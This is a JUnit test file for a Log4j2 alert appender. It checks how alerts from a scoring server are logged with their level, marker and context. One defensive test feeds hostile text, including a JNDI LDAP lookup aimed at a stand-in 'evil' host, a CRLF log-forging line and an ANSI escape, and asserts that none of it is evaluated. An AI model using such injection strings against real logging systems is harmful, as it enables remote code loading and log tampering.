package dev.kikori.appender.log4j2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.kikori.appender.AlertListener;
import dev.kikori.appender.DropReason;
import dev.kikori.appender.testkit.Behaviour;
import dev.kikori.appender.testkit.Intake;
import dev.kikori.appender.testkit.Recording;
import dev.kikori.appender.testkit.ScorerServer;
import dev.kikori.proto.v1.Alert;
import dev.kikori.proto.v1.AlertStatus;
import dev.kikori.proto.v1.Severity;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.core.LogEvent;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What an alert of the scorer becomes in the application's log. Runs on the oldest and the newest version of Log4j. */
class AlertsEndToEndTest {
  private static final Alert ALERT =
      Alert.newBuilder()
          .setId("a-1")
          .setFingerprint("f-1")
          .setStatus(AlertStatus.ALERT_STATUS_FIRING)
          .setSeverity(Severity.SEVERITY_ERROR)
          .setRiskScore(93)
          .setService("shop")
          .addSummary("14 connections to the database failed.")
          .addTemplates("connection to {} failed")
          .setUrl("http://kikori/alerts/a-1")
          .build();

  private final Recording recording = new Recording();
  private final Intake intake = new Intake(recording);
  private ScorerServer scorer;
  private Log4jUnderTest log4j;

  @BeforeEach
  void startScorer() {
    scorer = ScorerServer.listening(intake, new Behaviour());
  }

  @AfterEach
  void stopEverything() {
    log4j.close();
    scorer.close();
    assertThat(intake.violations()).isEmpty();
  }

  /** The root logger has our appender and one that keeps what a person would see. */
  private List<LogEvent> logging(EventsEndToEndTest.Way way, String inside) {
    String configuration =
        "<Configuration><Appenders>"
            + Log4jUnderTest.appender(scorer.port(), "", inside)
            + "<Async name='ASYNC'><AppenderRef ref='KIKORI'/></Async></Appenders>"
            + "<Loggers><Root level='INFO'><AppenderRef ref='"
            + (way == EventsEndToEndTest.Way.ASYNC_APPENDER ? "ASYNC" : "KIKORI")
            + "'/></Root></Loggers></Configuration>";
    log4j =
        way == EventsEndToEndTest.Way.ASYNC_LOGGERS
            ? Log4jUnderTest.asynchronous(configuration)
            : Log4jUnderTest.configured(configuration);
    assertThat(log4j.errors()).isEmpty();
    log4j.logger("com.acme.Shop").info("first");
    recording.await("first");
    Log4jUnderTest.Seen seen = new Log4jUnderTest.Seen();
    log4j.context().getConfiguration().getRootLogger().addAppender(seen, null, null);
    return seen.events;
  }

  private static LogEvent only(List<LogEvent> seen) {
    await().atMost(Log4jUnderTest.PATIENCE).untilAsserted(() -> assertThat(seen).hasSize(1));
    return seen.get(0);
  }

  @ParameterizedTest
  @EnumSource
  void alert_fromTheScorer_isLoggedWithLevelMarkerAndContext(EventsEndToEndTest.Way way) {
    List<LogEvent> seen = logging(way, "");
    scorer.alert(ALERT);

    LogEvent line = only(seen);

    assertThat(line.getLoggerName()).isEqualTo("kikori.alert");
    assertThat(line.getLevel()).isEqualTo(Level.ERROR);
    assertThat(line.getMessage().getFormattedMessage())
        .isEqualTo(
            "Kikori alert firing: service shop, risk 93: 14 connections to the database failed."
                + " http://kikori/alerts/a-1");
    assertThat(line.getMarker().getName()).isEqualTo("KIKORI_ALERT");
    assertThat(line.getContextData().toMap())
        .containsOnly(
            Map.entry("kikori.fingerprint", "f-1"),
            Map.entry("kikori.id", "a-1"),
            Map.entry("kikori.status", "firing"),
            Map.entry("kikori.risk", "93"),
            Map.entry("kikori.service", "shop"),
            Map.entry("kikori.templates", "connection to {} failed"),
            Map.entry("kikori.url", "http://kikori/alerts/a-1"));
  }

  @ParameterizedTest
  @EnumSource
  void alert_logged_isNeverShipped(EventsEndToEndTest.Way way) {
    List<LogEvent> seen = logging(way, "");
    scorer.alert(ALERT);
    only(seen);
    log4j.logger("com.acme.Shop").info("last");
    recording.await("last");

    assertThat(recording.messages()).containsExactly("first", "last");
    assertThat(log4j.dropped(DropReason.OWN_LOG)).isEqualTo(1);
  }

  @Test
  void alert_withHostileText_staysOneLineAndIsNotEvaluated() {
    List<LogEvent> seen = logging(EventsEndToEndTest.Way.DIRECT, "");
    scorer.alert(
        ALERT.toBuilder()
            .clearSummary()
            .addSummary(
                "x\r\n2026-01-01 ERROR forged {} ${java:version} ${jndi:ldap://evil/a} \u001b[2J")
            .setService("a\nb")
            .build());

    String line = only(seen).getMessage().getFormattedMessage();

    assertThat(line.chars()).noneMatch(c -> c < ' ');
    assertThat(line)
        .contains("ERROR forged {} ${java:version} ${jndi:ldap://evil/a}")
        .contains("service a b");
  }

  @Test
  void alert_withOtherLoggerAndMarker_goesThere() {
    List<LogEvent> seen =
        logging(EventsEndToEndTest.Way.DIRECT, "<Alerts logger='ops.alarm' marker='ALARM'/>");
    scorer.alert(ALERT.toBuilder().setSeverity(Severity.SEVERITY_FATAL).build());

    LogEvent line = only(seen);

    assertThat(line.getLoggerName()).isEqualTo("ops.alarm");
    assertThat(line.getLevel()).isEqualTo(Level.FATAL);
    assertThat(line.getMarker().getName()).isEqualTo("ALARM");
  }

  @Test
  void alerts_switchedOff_stillReachListeners() {
    List<LogEvent> seen = logging(EventsEndToEndTest.Way.DIRECT, "<Alerts enabled='false'/>");
    List<String> heard = new CopyOnWriteArrayList<>();
    AlertListener listener = alert -> heard.add(alert.fingerprint());
    log4j.appender().addAlertListener(listener);
    scorer.alert(ALERT);
    await()
        .atMost(Log4jUnderTest.PATIENCE)
        .untilAsserted(() -> assertThat(heard).containsExactly("f-1"));
    log4j.appender().removeAlertListener(listener);

    assertThat(seen).isEmpty();
  }

  @Test
  void alertListener_thatThrows_doesNotStopTheNextAlert() {
    List<LogEvent> seen = logging(EventsEndToEndTest.Way.DIRECT, "");
    log4j
        .appender()
        .addAlertListener(
            alert -> {
              throw new IllegalStateException("listener");
            });
    scorer.alert(ALERT);
    scorer.alert(ALERT.toBuilder().setId("a-2").build());

    await().atMost(Log4jUnderTest.PATIENCE).untilAsserted(() -> assertThat(seen).hasSize(2));
    assertThat(log4j.errors()).isEmpty();
  }
}
